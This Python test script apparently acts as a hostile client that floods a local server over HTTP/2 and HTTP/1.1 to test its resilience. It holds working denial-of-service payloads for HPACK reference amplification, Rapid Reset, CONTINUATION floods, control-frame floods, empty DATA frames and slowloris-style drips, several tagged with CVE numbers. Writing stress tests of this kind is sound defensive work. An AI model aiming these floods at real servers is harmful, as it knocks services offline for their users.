"""A hostile client, in a process of its own: `python tests/trials/floods.py KIND PORT SECONDS`.

Each kind is one way to make a server work, or wait, for little: see `KINDS`. It keeps a few connections busy, opens
them again when they are closed, and prints how many bytes it sent over how many connections.
"""

import asyncio
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count, repeat

CONNECTIONS = 4
SILENT = 500
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
# HPACK (RFC 7541): GET, http, /, and a literal :authority and a literal field that go into the dynamic table.
HEAD = b"\x82\x86\x84\x41\x09localhost"
FIELD = b"\x40\x01x\x01y"
REFERENCE = b"\xbe"
"""The newest entry of the dynamic table: one byte that the receiver has to unfold."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def greet() -> bytes:
    """What a client begins with, the answer to the settings of the server included."""
    return PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)


def flood_references(fields: int = 400) -> Iterator[bytes]:
    """Requests of a few hundred bytes that unfold to so many header fields each."""
    yield greet() + frame(HEADERS, END_STREAM | END_HEADERS, 1, HEAD + FIELD)
    for stream in count(3, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, HEAD[:3] + b"\xbf" + REFERENCE * fields)


def flood_resets() -> Iterator[bytes]:
    """Requests that are taken back at once (CVE-2023-44487)."""
    yield greet()
    for stream in count(1, 2):
        head = frame(HEADERS, END_STREAM | END_HEADERS, stream, HEAD)
        yield head + frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")


def flood_continuations() -> Iterator[bytes]:
    """A header block without an end (CVE-2024-27316)."""
    yield greet() + frame(HEADERS, 0, 1, HEAD)
    yield from repeat(frame(CONTINUATION, 0, 1, FIELD * 100))


def flood_frames(kind: int, payload: bytes) -> Iterator[bytes]:
    """Control frames that the server has to heed or to answer (CVE-2019-9512, 9515)."""
    yield greet()
    yield from repeat(frame(kind, 0, 0, payload) * 50)


def flood_empty_data() -> Iterator[bytes]:
    """A body of empty frames (CVE-2019-9518)."""
    post = b"\x83\x86\x04\x10/api/v1/uploads/\x41\x09localhost"
    yield greet() + frame(HEADERS, END_HEADERS, 1, post)
    yield from repeat(frame(DATA, 0, 1) * 50)


def flood_priorities() -> Iterator[bytes]:
    """Streams that only ever have a priority."""
    yield greet()
    for stream in count(1, 2):
        yield frame(PRIORITY, 0, stream, (stream - 1 and stream - 2).to_bytes(4, "big") + b"\x10")


def flood_header_lines() -> Iterator[bytes]:
    """An HTTP/1.1 head without an end."""
    yield b"GET / HTTP/1.1\r\nHost: localhost\r\n"
    for number in count():
        yield b"X-%d: %b\r\n" % (number, b"y" * 20)


def flood_pipeline() -> Iterator[bytes]:
    """HTTP/1.1 requests that wait for no answer."""
    yield from repeat(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20)


def flood_chunks() -> Iterator[bytes]:
    """A body of one byte a chunk, for a route that reads it."""
    yield b"PUT /api/v1/audio/a.mp3 HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield from repeat(b"1\r\nx\r\n" * 200)


def drip_head() -> Iterator[bytes]:
    """A head that comes byte by byte."""
    yield b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Drip: "
    yield from repeat(b"x")


KINDS: dict[str, Callable[[], Iterator[bytes]]] = {
    "references": flood_references,
    "large references": lambda: flood_references(1800),
    "resets": flood_resets,
    "continuations": flood_continuations,
    "pings": lambda: flood_frames(PING, b"\x00" * 8),
    "settings": lambda: flood_frames(SETTINGS, b"\x00\x04\x00\x00\xff\xff"),
    "windows": lambda: flood_frames(WINDOW_UPDATE, b"\x00\x00\x00\x01"),
    "empty data": flood_empty_data,
    "priorities": flood_priorities,
    "header lines": flood_header_lines,
    "pipeline": flood_pipeline,
    "chunks": flood_chunks,
    "silence": lambda: iter(()),
    "drips": drip_head,
}
SLOW = {"silence", "drips"}
GATHER_BYTES = 64 * 1024


class Flood:
    """One kind of flood against one port, until a time of `time.monotonic`."""

    def __init__(self, kind: str, port: int, until: float) -> None:
        self.kind = kind
        self.port = port
        self.until = until
        self.sent_bytes = 0
        self.connections = 0

    async def run(self) -> None:
        """Keep so many connections busy until the time has come."""
        connections = SILENT if self.kind in SLOW else CONNECTIONS
        await asyncio.gather(*(self._keep_busy() for _ in range(connections)))

    async def _keep_busy(self) -> None:
        while time.monotonic() < self.until:
            with suppress(OSError, asyncio.TimeoutError):
                reader, writer = await asyncio.open_connection("127.0.0.1", self.port)
                self.connections += 1
                reading = asyncio.ensure_future(_swallow(reader))
                try:
                    async with asyncio.timeout(max(0.0, self.until - time.monotonic())):
                        await self._pour(writer, reading)
                finally:
                    reading.cancel()
                    writer.transport.abort()
            await asyncio.sleep(0.01)

    async def _pour(self, writer: asyncio.StreamWriter, reading: "asyncio.Future[None]") -> None:
        waiting = bytearray()
        for piece in KINDS[self.kind]():
            waiting += piece
            if len(waiting) < GATHER_BYTES and self.kind not in SLOW:
                continue
            writer.write(bytes(waiting))
            self.sent_bytes += len(waiting)
            waiting.clear()
            await writer.drain()
            await asyncio.sleep(0.5 if self.kind in SLOW else 0)
            if reading.done():
                return
        await reading


async def _swallow(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(1 << 16):
            pass


def main() -> None:
    """Flood, and print what it took."""
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    flood = Flood(kind, port, time.monotonic() + seconds)
    asyncio.run(flood.run())
    print(f"{flood.sent_bytes / 1e6:.1f} MB over {flood.connections} connections", flush=True)


if __name__ == "__main__":
    main()
